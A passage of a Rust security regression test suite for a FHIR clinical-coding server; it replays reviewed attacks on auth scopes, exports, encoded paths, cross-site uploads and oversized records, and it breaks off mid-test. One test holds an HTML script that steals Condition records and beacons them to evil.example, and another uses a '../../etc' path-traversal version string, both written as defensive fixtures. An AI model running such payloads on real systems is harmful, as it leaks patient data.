//! The attacks of the security review, replayed against real servers on loopback: one with
//! bearer tokens (HS256, issuer and audience configured), one with authentication off. Each
//! test names the attack it replays (issue 11, items 1-12) and asserts the refusal. Tokens are
//! minted here with the test-only secret.
mod common;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::sync::OnceLock;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use base64::Engine;
use common::{request, Response};
use jointcoder::server::AppState;
use jsonwebtoken::{encode, Algorithm, EncodingKey, Header};
use serde_json::{json, Value};

const SECRET: &str = "security-tests-secret-0123456789abcdef";
const ISS: &str = "https://auth.example.org";
const AUD: &str = "jointcoder";

struct Srv {
    addr: String,
    state: actix_web::web::Data<AppState>,
    _data: tempfile::TempDir,
}

fn start(auth: bool) -> Srv {
    let data = tempfile::tempdir().unwrap();
    let mut cfg = common::test_config(data.path().to_owned());
    cfg.limits.body_ms = 1500;
    if auth {
        cfg.jwt = jointcoder::config::JwtConfig {
            hs256_secret: Some(SECRET.into()),
            issuer: Some(ISS.into()),
            audience: Some(AUD.into()),
            token_endpoint: Some(TOKEN_ENDPOINT.into()),
            ..Default::default()
        };
    }
    let (addr, state) = common::serve_state(cfg, common::terminology().clone());
    Srv { addr, state, _data: data }
}

/// Bearer tokens required.
const TOKEN_ENDPOINT: &str = "https://auth.hospital.example/oauth2/token";

fn guarded() -> &'static Srv {
    static S: OnceLock<Srv> = OnceLock::new();
    S.get_or_init(|| start(true))
}

/// Authentication off (loopback only).
fn open() -> &'static Srv {
    static S: OnceLock<Srv> = OnceLock::new();
    S.get_or_init(|| start(false))
}

fn now() -> u64 {
    SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs()
}

fn claims(sub: &str, scope: &str) -> Value {
    json!({ "iss": ISS, "aud": AUD, "sub": sub, "exp": now() + 600, "nbf": now() - 10, "scope": scope })
}

fn mint(claims: &Value) -> String {
    encode(&Header::new(Algorithm::HS256), claims, &EncodingKey::from_secret(SECRET.as_bytes())).unwrap()
}

fn token(sub: &str, scope: &str) -> String {
    mint(&claims(sub, scope))
}

fn call(method: &str, path: &str, token: &str, headers: &[(&str, &str)], body: &[u8]) -> Response {
    let auth = format!("Bearer {token}");
    let mut all = vec![("Authorization", auth.as_str())];
    if !body.is_empty() && !headers.iter().any(|(k, _)| k.eq_ignore_ascii_case("content-type")) {
        all.push(("Content-Type", "application/fhir+json"));
    }
    all.extend_from_slice(headers);
    request(&guarded().addr, method, path, &all, body)
}

const CODER: &str = "system/Condition.cruds system/Procedure.cruds system/Claim.cruds system/Provenance.cruds";

/// The example discharge document, for `patient` and with its own record identifier.
fn document(patient: &str, record: &str) -> String {
    let text = std::fs::read_to_string(std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/requests/discharge-bundle.json")).unwrap();
    let mut b: Value = serde_json::from_str(&text).unwrap();
    b["identifier"]["value"] = json!(record);
    b["entry"][0]["resource"]["subject"] = json!({ "reference": format!("Patient/{patient}") });
    b.to_string()
}

/// Codes a document for `patient` on the guarded server; answers the Condition ids.
fn coded(patient: &str, record: &str) -> Vec<String> {
    let r = call("POST", "/fhir/Bundle/$code", &token("ehr", CODER), &[], document(patient, record).as_bytes());
    assert_eq!(r.status, 200, "{}", r.body);
    conditions(&r.json())
}

fn conditions(bundle: &Value) -> Vec<String> {
    bundle["entry"].as_array().unwrap().iter().filter(|e| e["resource"]["resourceType"] == "Condition").map(|e| e["resource"]["id"].as_str().unwrap().to_owned()).collect()
}

fn issue(r: &Response) -> String {
    r.json()["issue"][0]["code"].as_str().unwrap_or("").to_owned()
}

/// 1. A reviewer cannot name someone else: the feedback keeps the token's subject.
#[test]
fn reviewer_identity_comes_from_the_token() {
    let id = &coded("p-review", "SEC-REVIEW-1")[0];
    let path = format!("/fhir/Condition/{id}");
    let reviewer = token("coder-alice", "user/Condition.rus");
    let mut c = call("GET", &path, &reviewer, &[], b"").json();
    c["verificationStatus"]["coding"][0]["code"] = json!("confirmed");
    let r = call("PUT", &path, &reviewer, &[("X-Jointcoder-User", "chief-coder-bob")], c.to_string().as_bytes());
    assert_eq!(r.status, 200, "{}", r.body);
    let feedback = guarded().state.store.feedback().unwrap();
    let mine: Vec<_> = feedback.iter().filter(|f| &f.id == id).collect();
    assert_eq!(mine.len(), 1);
    assert_eq!(mine[0].who, "coder-alice", "the header cannot rename the reviewer");

    // With authentication off the header is all there is: kept, and marked as unchecked.
    let s = open();
    let r = common::post_json(&s.addr, "/fhir/Bundle/$code", &document("p-review", "SEC-REVIEW-2"));
    let id = conditions(&r.json())[0].clone();
    let mut c = common::get(&s.addr, &format!("/fhir/Condition/{id}")).json();
    c["verificationStatus"]["coding"][0]["code"] = json!("refuted");
    let r = request(&s.addr, "PUT", &format!("/fhir/Condition/{id}"), &[("Content-Type", "application/fhir+json"), ("X-Jointcoder-User", "chief-coder-bob")], c.to_string().as_bytes());
    assert_eq!(r.status, 200, "{}", r.body);
    let who: Vec<String> = s.state.store.feedback().unwrap().into_iter().filter(|f| f.id == id).map(|f| f.who).collect();
    assert_eq!(who, vec!["unverified:chief-coder-bob".to_owned()]);
}

fn kick_off(path: &str, token: &str) -> Response {
    call("GET", path, token, &[("Prefer", "respond-async")], b"")
}

/// 2. `$export` needs read and search on every type it writes; a job is its starter's.
#[test]
fn export_checks_every_type_and_jobs_belong_to_their_client() {
    coded("p-export", "SEC-EXPORT-1");
    let billing = token("billing", "system/Claim.rs");
    assert_eq!(call("GET", "/fhir/Condition/anything", &billing, &[], b"").status, 403);
    for path in ["/fhir/$export?_type=Condition,Procedure,Provenance", "/fhir/$export", "/fhir/Patient/$export", "/fhir/$export?_type=Claim,Condition"] {
        let r = kick_off(path, &billing);
        assert_eq!(r.status, 403, "{path}: {}", r.body);
        assert_eq!(issue(&r), "forbidden");
    }
    // POST names its types in the body, read after routing: each is checked as a GET's would be.
    let post = |params: &Value, who: &str| call("POST", "/fhir/$export", who, &[("Prefer", "respond-async")], params.to_string().as_bytes());
    let wide = json!({ "resourceType": "Parameters", "parameter": [{ "name": "_type", "valueString": "Claim,Condition" }] });
    let r = post(&wide, &billing);
    assert_eq!(r.status, 403, "a body cannot widen what the token allows: {}", r.body);
    assert_eq!(issue(&r), "forbidden");
    let everything = json!({ "resourceType": "Parameters", "parameter": [] });
    assert_eq!(post(&everything, &billing).status, 403, "no _type: every type of the level");
    let narrow = json!({ "resourceType": "Parameters", "parameter": [{ "name": "_type", "valueString": "Claim" }] });
    assert_eq!(post(&narrow, &billing).status, 202);
    assert_eq!(call("POST", "/fhir/$export", "", &[("Prefer", "respond-async")], narrow.to_string().as_bytes()).status, 401, "a token is needed");

    let r = kick_off("/fhir/$export?_type=Claim", &billing);
    assert_eq!(r.status, 202, "{}", r.body);
    let status_url = r.header("content-location").unwrap().to_owned();
    let status_path = &status_url[status_url.find("/fhir/").unwrap()..];

    // Another client with the same scopes sees no such job, and cannot cancel it.
    let other = token("other-billing", "system/Claim.rs");
    assert_eq!(call("GET", status_path, &other, &[], b"").status, 404);
    assert_eq!(call("DELETE", status_path, &other, &[], b"").status, 404);
    // A client without the job's scopes is refused before anything else.
    assert_eq!(call("GET", status_path, &token("billing", "system/Condition.rs"), &[], b"").status, 403);

    let mut polls = 0;
    let manifest = loop {
        let r = call("GET", status_path, &billing, &[], b"");
        if r.status == 200 {
            break r.json();
        }
        assert_eq!(r.status, 202, "{}", r.body);
        polls += 1;
        assert!(polls < 600, "the export did not finish within a minute");
        std::thread::sleep(Duration::from_millis(100));
    };
    let url = manifest["output"][0]["url"].as_str().unwrap();
    let file = &url[url.find("/fhir/").unwrap()..];
    assert_eq!(call("GET", file, &other, &[], b"").status, 404, "another client cannot download it");
    let ndjson = call("GET", file, &billing, &[], b"");
    assert_eq!(ndjson.status, 200);
    assert!(ndjson.body.lines().all(|l| serde_json::from_str::<Value>(l).unwrap()["resourceType"] == "Claim"));
    assert_eq!(call("DELETE", status_path, &billing, &[], b"").status, 202);
}

/// 3. Percent-encoded paths are judged (and audited) as the route that serves them.
#[test]
fn encoded_paths_are_authorized_and_audited_as_routed() {
    let id = coded("p-encoded", "SEC-ENCODED-1")[0].clone();
    let composer = token("composer", "system/Composition.c");
    for path in ["/fhir/Composition/%24code", "/fhir/Bundle/%24code", "/fhir/%24code", "/fhir/Bundle/$%63ode"] {
        let r = call("POST", path, &composer, &[], document("p-encoded", "SEC-ENCODED-2").as_bytes());
        assert_eq!(r.status, 403, "{path}: {}", r.body);
    }
    let reader = token("encoded-reader", "system/Condition.rs");
    let r = call("GET", &format!("/fhir/%43ondition/{id}"), &reader, &[], b"");
    assert_eq!(r.status, 200, "{}", r.body);
    assert_eq!(call("GET", &format!("/fhir/%43ondition/{id}"), &token("x", "system/Claim.rs"), &[], b"").status, 403);
    assert_eq!(kick_off("/fhir/Patient/%24export", &token("x", "system/Claim.rs")).status, 403);

    let admin = token("admin", "system/AuditEvent.rs");
    let events = common::eventually(|| Some(call("GET", "/fhir/AuditEvent?agent=encoded-reader", &admin, &[], b"").json()).filter(|e| e["total"].as_u64() >= Some(1))).unwrap_or_default();
    let entities: Vec<&str> = events["entry"].as_array().into_iter().flatten().map(|e| e["resource"]["entity"][0]["what"]["reference"].as_str().unwrap()).collect();
    assert_eq!(entities, vec![format!("Condition/{id}")], "the encoded read is audited under the routed entity");
    let refused = common::eventually(|| Some(call("GET", "/fhir/AuditEvent?agent=composer", &admin, &[], b"").json()).filter(|e| e["total"].as_u64() >= Some(4)));
    assert!(refused.is_some(), "refused encoded $code calls are audited");
}

/// 4. A configured issuer and audience are required, not only checked when present.
#[test]
fn issuer_and_audience_are_required() {
    for drop in ["iss", "aud", "sub", "exp"] {
        let mut c = claims("no-claim", "system/*.rs");
        c.as_object_mut().unwrap().remove(drop);
        let r = call("GET", "/fhir/Claim", &mint(&c), &[], b"");
        assert_eq!(r.status, 401, "a token without {drop}: {}", r.body);
        assert_eq!(issue(&r), "login");
    }
    assert_eq!(call("GET", "/fhir/Claim", &token("ok", "system/*.rs"), &[], b"").status, 200);
}

/// 5. SMART scopes as the spec defines them: patient context, restrictions, letters.
#[test]
fn smart_scopes_are_parsed_and_patient_context_enforced() {
    let mine = coded("p1", "SEC-SMART-1");
    let theirs = coded("p2", "SEC-SMART-2");
    // patient/ without a patient in the token reaches nobody.
    let r = call("GET", &format!("/fhir/Condition/{}", mine[0]), &token("app", "patient/*.rs"), &[], b"");
    assert_eq!(r.status, 403, "{}", r.body);
    assert_eq!(call("GET", "/fhir/Condition", &token("app", "patient/*.rs"), &[], b"").status, 403);
    // With the patient claim: that patient's resources only.
    let mut c = claims("app", "patient/*.rs");
    c["patient"] = json!("p1");
    let p1 = mint(&c);
    assert_eq!(call("GET", &format!("/fhir/Condition/{}", mine[0]), &p1, &[], b"").status, 200);
    assert_eq!(call("GET", &format!("/fhir/Condition/{}", theirs[0]), &p1, &[], b"").status, 403);
    assert_eq!(call("GET", &format!("/fhir/Condition/{}/_history", theirs[0]), &p1, &[], b"").status, 403);
    let found = call("GET", "/fhir/Condition?_count=500", &p1, &[], b"").json();
    let subjects: Vec<&str> = found["entry"].as_array().unwrap().iter().map(|e| e["resource"]["subject"]["reference"].as_str().unwrap()).collect();
    assert!(!subjects.is_empty() && subjects.iter().all(|s| *s == "Patient/p1"), "{subjects:?}");
    assert_eq!(call("GET", "/fhir/Condition?subject=Patient/p2", &p1, &[], b"").json()["total"], 0);
    assert_eq!(call("GET", "/fhir/Provenance", &p1, &[], b"").status, 403, "outside the patient compartment");
    assert_eq!(call("POST", "/fhir/Bundle/$code", &p1, &[], document("p1", "SEC-SMART-3").as_bytes()).status, 403);
    // A restriction the server does not enforce grants nothing.
    assert_eq!(call("GET", &format!("/fhir/Condition/{}", theirs[0]), &token("app", "system/*.rs?patient=p1"), &[], b"").status, 403);
    // Letters are a subset of cruds in that order; anything else is no scope at all.
    assert_eq!(call("GET", "/fhir/Condition", &token("app", "system/*.readwrite"), &[], b"").status, 403);
    let path = format!("/fhir/Condition/{}", mine[0]);
    let current = call("GET", &path, &token("app", "system/Condition.r"), &[], b"").json();
    let r = call("PUT", &path, &token("app", "system/Condition.dru"), &[], current.to_string().as_bytes());
    assert_eq!(r.status, 403, "{}", r.body);
    assert_eq!(call("GET", "/fhir/Condition", &token("app", "user/Condition.read"), &[], b"").status, 200, "v1 read");
}

/// 6. `If-None-Exist` answers only the same client's same request.
#[test]
fn conditional_answers_are_not_shared_across_bodies_or_clients() {
    let criteria = [("If-None-Exist", "identifier=urn:example:hospital:discharge|SEC-COND-1")];
    let ehr = token("ehr-a", CODER);
    let first = call("POST", "/fhir/Bundle/$code", &ehr, &criteria, document("pa", "SEC-COND-1").as_bytes());
    assert_eq!(first.status, 200, "{}", first.body);
    let again = call("POST", "/fhir/Bundle/$code", &ehr, &criteria, document("pa", "SEC-COND-1").as_bytes());
    assert_eq!(conditions(&again.json()), conditions(&first.json()), "the same request again: the first answer");
    // Another patient's document under the same criteria: a 412, not patient A's codes.
    let other = call("POST", "/fhir/Bundle/$code", &ehr, &criteria, document("pb", "SEC-COND-1").as_bytes());
    assert_eq!(other.status, 412, "{}", other.body);
    assert!(!other.body.contains("Patient/pa"));
    // Another client with the same criteria and body gets its own answer.
    let b = call("POST", "/fhir/Bundle/$code", &token("ehr-b", CODER), &criteria, document("pb", "SEC-COND-1").as_bytes());
    assert_eq!(b.status, 200, "{}", b.body);
    assert!(b.body.contains("Patient/pb") && !b.body.contains("Patient/pa"));
    assert!(conditions(&b.json()).iter().all(|id| !conditions(&first.json()).contains(id)));
}

/// 6b. A stored document's conditional create answers only the same client's same document.
#[test]
fn conditional_document_creates_are_not_shared_across_bodies_or_clients() {
    let criteria = [("If-None-Exist", "identifier=urn:example:hospital:discharge|SEC-COMP-1")];
    let doc = |patient: &str| json!({ "resourceType": "Composition", "status": "final", "type": { "text": "出院记录" }, "title": "出院记录",
        "date": "2026-12-01", "author": [{ "display": "ehr" }], "subject": { "reference": format!("Patient/{patient}") },
        "identifier": { "system": "urn:example:hospital:discharge", "value": "SEC-COMP-1" } }).to_string();
    let a = token("ehr-a", "system/Composition.cr");
    let first = call("POST", "/fhir/Composition", &a, &criteria, doc("pa").as_bytes());
    assert_eq!(first.status, 201, "{}", first.body);
    let again = call("POST", "/fhir/Composition", &a, &criteria, doc("pa").as_bytes());
    assert_eq!(again.status, 200, "the same document again: the first, not a second");
    assert_eq!(again.json()["id"], first.json()["id"]);
    let other = call("POST", "/fhir/Composition", &a, &criteria, doc("pb").as_bytes());
    assert_eq!(other.status, 412, "{}", other.body);
    assert!(!other.body.contains("Patient/pa"));
    let b = call("POST", "/fhir/Composition", &token("ehr-b", "system/Composition.cr"), &criteria, doc("pa").as_bytes());
    assert_eq!(b.status, 201, "another client creates its own: {}", b.body);
    assert_ne!(b.json()["id"], first.json()["id"]);
}

fn upload_body(system: &str, version: &str, csv: &str) -> String {
    json!({ "resourceType": "Parameters", "parameter": [
        { "name": "system", "valueUri": system },
        { "name": "version", "valueString": version },
        { "name": "file", "valueAttachment": { "contentType": "text/csv", "data": base64::engine::general_purpose::STANDARD.encode(csv) } }
    ]})
    .to_string()
}

/// 7. A long version is a 400, not a 500 from the file system.
#[test]
fn version_strings_are_checked() {
    let admin = token("terminology-admin", "system/CodeSystem.cu");
    for version in ["9".repeat(200), "2.0\u{0}x".to_owned(), String::new(), "../../etc".to_owned(), "版本2".to_owned()] {
        let r = call("POST", "/fhir/CodeSystem/$upload-external-code-system", &admin, &[], upload_body("icd-10-cn-clinical", &version, "code,name\nI25.103,冠心病\n").as_bytes());
        assert_eq!(r.status, 400, "version {version:?}: {}", r.body);
    }
}

/// 8. With authentication off, no cross-site write, no non-JSON write, no empty code system,
/// and a new version does not silently become what `$code` codes with.
#[test]
fn terminology_cannot_be_replaced_cross_site() {
    let s = open();
    let one_row = upload_body("icd-10-cn-clinical", "evil1", "code,name\nA00.000,霍乱\n");
    let path = "/fhir/CodeSystem/$upload-external-code-system";
    let r = request(&s.addr, "POST", path, &[("Content-Type", "text/plain"), ("Origin", "http://evil.example")], one_row.as_bytes());
    assert_eq!(r.status, 415, "{}", r.body);
    let r = request(&s.addr, "POST", path, &[("Content-Type", "application/fhir+json"), ("Origin", "http://evil.example")], one_row.as_bytes());
    assert_eq!(r.status, 403, "{}", r.body);
    let r = request(&s.addr, "POST", path, &[("Content-Type", "application/fhir+json"), ("Sec-Fetch-Site", "cross-site")], one_row.as_bytes());
    assert_eq!(r.status, 403, "{}", r.body);
    let r = request(&s.addr, "POST", "/fhir/Composition", &[("Content-Type", "text/plain")], br#"{"resourceType":"Composition"}"#);
    assert_eq!(r.status, 415, "{}", r.body);
    let r = common::post_json(&s.addr, path, &upload_body("icd-10-cn-clinical", "empty", "code,name\n"));
    assert!(matches!(r.status, 400 | 422), "an empty code system: {}", r.body);

    // Same-origin (this server's own page) and non-browser clients may upload; the version is
    // served beside the current one, not instead of it.
    let own = format!("http://{}", s.addr);
    let r = request(&s.addr, "POST", path, &[("Content-Type", "application/fhir+json"), ("Origin", &own)], one_row.as_bytes());
    assert_eq!(r.status, 200, "{}", r.body);
    let lookup = common::get(&s.addr, "/fhir/CodeSystem/icd-10-cn-clinical/$lookup?code=I25.103");
    assert_eq!(common::param(&lookup.json(), "version").unwrap()["valueString"], "2.0");
    assert_eq!(common::get(&s.addr, "/fhir/CodeSystem/icd-10-cn-clinical/$lookup?code=A00.000&version=evil1").status, 200);
    let coded = common::post_json(&s.addr, "/fhir/Bundle/$code?persist=false", &document("p-x", "SEC-X-1"));
    assert!(!conditions(&coded.json()).is_empty(), "$code still codes with the current version");
}

/// 9. Oversized input is refused at once with the limit it broke.
#[test]
fn oversized_records_are_refused_before_coding() {
    let s = open();
    let mut b: Value = serde_json::from_str(&document("p-big", "SEC-BIG-1")).unwrap();
    let sections = b["entry"][0]["resource"]["section"].as_array_mut().unwrap();
    let dx = sections.iter_mut().find(|x| x["title"] == "出院诊断").unwrap();
    let list: String = (0..20_000).map(|i| format!("{}.冠状动脉粥样硬化性心脏病{i}，", i + 1)).collect();
    dx["text"]["div"] = json!(format!("<div xmlns=\"http://www.w3.org/1999/xhtml\">{list}</div>"));
    let r = common::post_json(&s.addr, "/fhir/Bundle/$code", &b.to_string());
    assert_eq!(r.status, 413, "{}", &r.body[..r.body.len().min(300)]);
    assert_eq!(issue(&r), "too-long");

    let mut b: Value = serde_json::from_str(&document("p-big", "SEC-BIG-2")).unwrap();
    let dx = b["entry"][0]["resource"]["section"].as_array_mut().unwrap().iter_mut().find(|x| x["title"] == "出院诊断").unwrap();
    let list: String = (0..300).map(|i| format!("{}.高血压病{i}级，", i + 1)).collect();
    dx["text"]["div"] = json!(format!("<div xmlns=\"http://www.w3.org/1999/xhtml\">{list}</div>"));
    let r = common::post_json(&s.addr, "/fhir/Bundle/$code", &b.to_string());
    assert_eq!(r.status, 422, "{}", r.body);
    assert_eq!(issue(&r), "too-costly");

    let mut b: Value = serde_json::from_str(&document("p-big", "SEC-BIG-3")).unwrap();
    let many: Vec<Value> = (0..10_000).map(|i| json!({ "title": "病程记录", "text": { "status": "generated", "div": format!("<div xmlns=\"http://www.w3.org/1999/xhtml\">第{i}天</div>") } })).collect();
    b["entry"][0]["resource"]["section"].as_array_mut().unwrap().extend(many);
    let r = common::post_json(&s.addr, "/fhir/Bundle/$code", &b.to_string());
    assert_eq!(r.status, 413, "{}", r.body);

    // The ordinary record right after is coded as ever.
    assert_eq!(common::post_json(&s.addr, "/fhir/Bundle/$code?persist=false", &document("p-big", "SEC-BIG-4")).status, 200);
}

/// 10. Search pages in the database: the page and the total stay right as the trail grows.
#[test]
fn search_pages_with_totals() {
    let admin = token("pager", "system/AuditEvent.rs system/Claim.rs");
    for _ in 0..7 {
        call("GET", "/fhir/Claim?_count=1", &admin, &[], b"");
    }
    let first = common::eventually(|| Some(call("GET", "/fhir/AuditEvent?agent=pager&_count=2", &admin, &[], b"").json()).filter(|e| e["total"].as_u64() >= Some(7)))
        .expect("the seven searches are audited");
    let total = first["total"].as_u64().unwrap();
    assert_eq!(first["entry"].as_array().unwrap().len(), 2);
    let mut seen: Vec<String> = Vec::new();
    let mut offset = 0;
    while offset < total {
        let page = call("GET", &format!("/fhir/AuditEvent?agent=pager&_count=3&_offset={offset}"), &admin, &[], b"").json();
        seen.extend(page["entry"].as_array().unwrap().iter().map(|e| e["resource"]["id"].as_str().unwrap().to_owned()));
        offset += 3;
    }
    let mut unique = seen.clone();
    unique.sort();
    unique.dedup();
    assert!(unique.len() as u64 >= total && unique.len() == seen.len(), "pages are disjoint and cover the total");
}

/// 11. Paging arithmetic, slow bodies, and record identifiers in logs.
#[test]
fn offsets_slow_bodies_and_small_things() {
    let admin = token("offsets", "system/Claim.rs");
    for offset in ["18446744073709551615", "18446744073709551616", "-1", "1e9"] {
        let r = call("GET", &format!("/fhir/Claim?_offset={offset}"), &admin, &[], b"");
        assert_eq!(r.status, 400, "_offset={offset}: {}", r.body);
    }
    let r = call("GET", "/fhir/Claim?_offset=999999999&_count=500", &admin, &[], b"");
    assert_eq!(r.status, 200);
    assert!(r.json()["link"].as_array().unwrap().iter().all(|l| l["relation"] != "next"));

    // A body that stops halfway is answered 408 once the body time runs out.
    let mut stream = TcpStream::connect(&open().addr).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    let head = "POST /fhir/Bundle/$code HTTP/1.1\r\nHost: x\r\nContent-Type: application/fhir+json\r\nContent-Length: 1000\r\n\r\n{\"resourceType\":";
    stream.write_all(head.as_bytes()).unwrap();
    let mut raw = Vec::new();
    let _ = stream.read_to_end(&mut raw);
    let text = String::from_utf8_lossy(&raw);
    assert!(text.starts_with("HTTP/1.1 408"), "{text}");
}

/// 12. A record with extra keys of any JSON type is read; only its known fields are coded.
#[test]
fn records_with_object_valued_extra_keys_are_coded() {
    let s = open();
    let record = json!({ "record_id": "SEC-EXTRA-1", "出院诊断": "1.冠状动脉粥样硬化性心脏病 2.高血压病3级", "rationale": { "why": ["x"] }, "meta": [{ "k": 1 }] });
    let doc = json!({ "resourceType": "DocumentReference", "status": "current",
        "content": [{ "attachment": { "contentType": "application/json", "data": base64::engine::general_purpose::STANDARD.encode(record.to_string()) } }] });
    let r = common::post_json(&s.addr, "/fhir/DocumentReference/$code?persist=false", &doc.to_string());
    assert_eq!(r.status, 200, "{}", r.body);
    assert!(!conditions(&r.json()).is_empty());
}

/// Every route refuses a request without a token, but discovery.
#[test]
fn every_route_needs_a_token() {
    let public = ["/fhir/metadata", "/fhir/.well-known/smart-configuration", "/fhir/OperationDefinition/code"];
    for p in public {
        assert_eq!(request(&guarded().addr, "GET", p, &[], b"").status, 200, "{p}");
    }
    // SMART discovery names the configured token endpoint, absolute, and the issuer.
    let smart = request(&guarded().addr, "GET", "/fhir/.well-known/smart-configuration", &[], b"").json();
    assert_eq!(smart["token_endpoint"], TOKEN_ENDPOINT);
    assert_eq!(smart["issuer"], ISS);
    // The CapabilityStatement says so too (clients such as fhirclient set up OAuth from it),
    // and that a review must name its version.
    let cap = request(&guarded().addr, "GET", "/fhir/metadata", &[], b"").json();
    let sec = &cap["rest"][0]["security"];
    assert_eq!(sec["service"][0]["coding"][0]["code"], "SMART-on-FHIR");
    assert_eq!(sec["extension"][0]["extension"][0]["valueUri"], TOKEN_ENDPOINT);
    let condition = cap["rest"][0]["resource"].as_array().unwrap().iter().find(|r| r["type"] == "Condition").unwrap().clone();
    assert_eq!(condition["versioning"], "versioned-update");
    let open_cap = request(&open().addr, "GET", "/fhir/metadata", &[], b"").json();
    assert!(open_cap["rest"][0]["security"].is_null(), "no security declared with authentication off");
    // Without an authorization server configured there is no SMART discovery, and no guess.
    let r = request(&open().addr, "GET", "/fhir/.well-known/smart-configuration", &[], b"");
    assert_eq!(r.status, 404, "{}", r.body);
    assert!(r.body.contains("JOINTCODER_SMART_TOKEN_ENDPOINT"), "{}", r.body);
    let routes = [
        ("GET", "/fhir/Condition"), ("POST", "/fhir/Composition"), ("GET", "/fhir/Condition/x"), ("PUT", "/fhir/Condition/x"),
        ("GET", "/fhir/Condition/x/_history"), ("GET", "/fhir/Condition/x/_history/1"), ("POST", "/fhir/Bundle/$code"),
        ("POST", "/fhir/$code"), ("POST", "/fhir/Composition/$code"), ("POST", "/fhir/DocumentReference/$code"),
        ("POST", "/fhir/Composition/x/$code"), ("POST", "/fhir/DocumentReference/x/$code"), ("POST", "/fhir/DocumentReference/$extract"), ("GET", "/fhir/$export"),
        ("GET", "/fhir/Patient/$export"), ("POST", "/fhir/$export"), ("POST", "/fhir/Patient/$export"), ("GET", "/fhir/$export-status/x"), ("DELETE", "/fhir/$export-status/x"),
        ("GET", "/fhir/$export-file/x/Claim.ndjson"), ("GET", "/fhir/CodeSystem"), ("GET", "/fhir/CodeSystem/icd-10-cn-clinical"),
        ("PUT", "/fhir/CodeSystem/x"), ("GET", "/fhir/CodeSystem/$lookup"), ("POST", "/fhir/CodeSystem/$lookup"),
        ("GET", "/fhir/CodeSystem/icd-10-cn-clinical/$lookup"), ("GET", "/fhir/CodeSystem/$validate-code"),
        ("GET", "/fhir/CodeSystem/icd-10-cn-clinical/$validate-code"), ("POST", "/fhir/CodeSystem/$upload-external-code-system"),
        ("GET", "/fhir/ValueSet/$expand"), ("GET", "/fhir/ConceptMap"), ("GET", "/fhir/ConceptMap/x"), ("GET", "/fhir/ConceptMap/$translate"),
        ("GET", "/fhir/AuditEvent"),
    ];
    for (method, path) in routes {
        let r = request(&guarded().addr, method, path, &[("Content-Type", "application/fhir+json")], b"{}");
        assert_eq!(r.status, 401, "{method} {path}: {}", r.body);
    }
}

/// 10. Raw Binary content (issue 14, item 11): only `POST /Binary` takes a body that is not
/// FHIR JSON, and it is still refused cross-site (auth off) and without a token (auth on);
/// what it stored is served back sandboxed, so an uploaded HTML page never runs as this
/// server's page.
#[test]
fn raw_binaries_are_not_a_way_around_the_guards() {
    let s = open();
    let page = b"<html><script>fetch('/fhir/Condition').then(r => r.text()).then(t => navigator.sendBeacon('http://evil.example', t))</script></html>";
    let r = request(&s.addr, "POST", "/fhir/Binary", &[("Content-Type", "text/html"), ("Origin", "http://evil.example")], page);
    assert_eq!(r.status, 403, "cross-site: {}", r.body);
    let r = request(&s.addr, "POST", "/fhir/Binary", &[("Content-Type", "text/html"), ("Sec-Fetch-Site", "cross-site")], page);
    assert_eq!(r.status, 403, "cross-site: {}", r.body);
    let r = request(&s.addr, "POST", "/fhir/DocumentReference", &[("Content-Type", "text/plain")], b"{}");
    assert_eq!(r.status, 415, "only Binary takes raw bodies: {}", r.body);
    let r = request(&s.addr, "POST", "/fhir/Binary", &[("Content-Type", "not a type")], b"x");
    assert_eq!(r.status, 415, "{}", r.body);

    let r = request(&s.addr, "POST", "/fhir/Binary", &[("Content-Type", "text/html")], page);
    assert_eq!(r.status, 201, "{}", r.body);
    let id = r.json()["id"].as_str().unwrap().to_owned();
    let raw = request(&s.addr, "GET", &format!("/fhir/Binary/{id}"), &[("Accept", "text/html")], b"");
    assert_eq!(raw.status, 200);
    assert_eq!(raw.body.as_bytes(), page);
    assert_eq!(raw.header("x-content-type-options"), Some("nosniff"));
    assert!(raw.header("content-security-policy").unwrap().starts_with("sandbox"), "{:?}", raw.headers);

    let g = guarded();
    let r = request(&g.addr, "POST", "/fhir/Binary", &[("Content-Type", "application/pdf")], b"%PDF-1.4");
    assert_eq!(r.status, 401, "{}", r.body);
    let r = call("POST", "/fhir/Binary", &token("ehr", "system/Binary.r"), &[("Content-Type", "application/pdf")], b"%PDF-1.4");
    assert_eq!(r.status, 403, "reading is not creating: {}", r.body);
    let r = call("POST", "/fhir/Binary", &token("ehr", "system/Binary.c"), &[("Content-Type", "application/pdf")], b"%PDF-1.4");
    assert_eq!(r.status, 201, "{}", r.body);
    let id = r.json()["id"].as_str().unwrap().to_owned();
    let r = request(&g.addr, "GET", &format!("/fhir/Binary/{id}"), &[("Accept", "application/pdf")], b"");
    assert_eq!(r.status, 401, "raw reads need a token too");
}

/// 11. `DocumentReference/$extract` (issue 15) shows a document's text: it needs a token that
/// reads DocumentReferences, is refused cross-site with auth off, and is audited; what it
/// shows is de-identified.
#[test]
fn extract_needs_its_scope_and_shows_no_identifiers() {
    let text = "姓名：赵六  住院号：ZY77770001  联系电话：13900001111\n主诉：胸痛2天。\n出院诊断：不稳定型心绞痛";
    let doc = json!({ "resourceType": "DocumentReference", "status": "current",
        "content": [{ "attachment": { "contentType": "text/plain", "data": base64::engine::general_purpose::STANDARD.encode(text) } }] }).to_string();
    let path = "/fhir/DocumentReference/$extract";
    assert_eq!(request(&guarded().addr, "POST", path, &[("Content-Type", "application/fhir+json")], doc.as_bytes()).status, 401);
    let r = call("POST", path, &token("coder-x", "system/Condition.cruds"), &[], doc.as_bytes());
    assert_eq!(r.status, 403, "{}", r.body);
    let r = call("POST", path, &token("coder-x", "system/DocumentReference.r"), &[], doc.as_bytes());
    assert_eq!(r.status, 403, "an attachment may name a stored Binary: {}", r.body);
    let r = call("POST", path, &token("coder-x", "system/DocumentReference.r system/Binary.r"), &[], doc.as_bytes());
    assert_eq!(r.status, 200, "{}", r.body);
    for secret in ["赵六", "ZY77770001", "13900001111"] {
        assert!(!r.body.contains(secret), "{secret} shown: {}", r.body);
    }
    assert!(r.body.contains("胸痛2天"));
    let trail = common::eventually(|| {
        let trail = call("GET", "/fhir/AuditEvent?agent=coder-x&_count=100", &token("admin", "system/AuditEvent.rs"), &[], b"").json();
        trail["entry"].as_array().into_iter().flatten().any(|e| e["resource"].to_string().contains("$extract")).then_some(trail)
    });
    assert!(trail.is_some(), "$extract is audited");
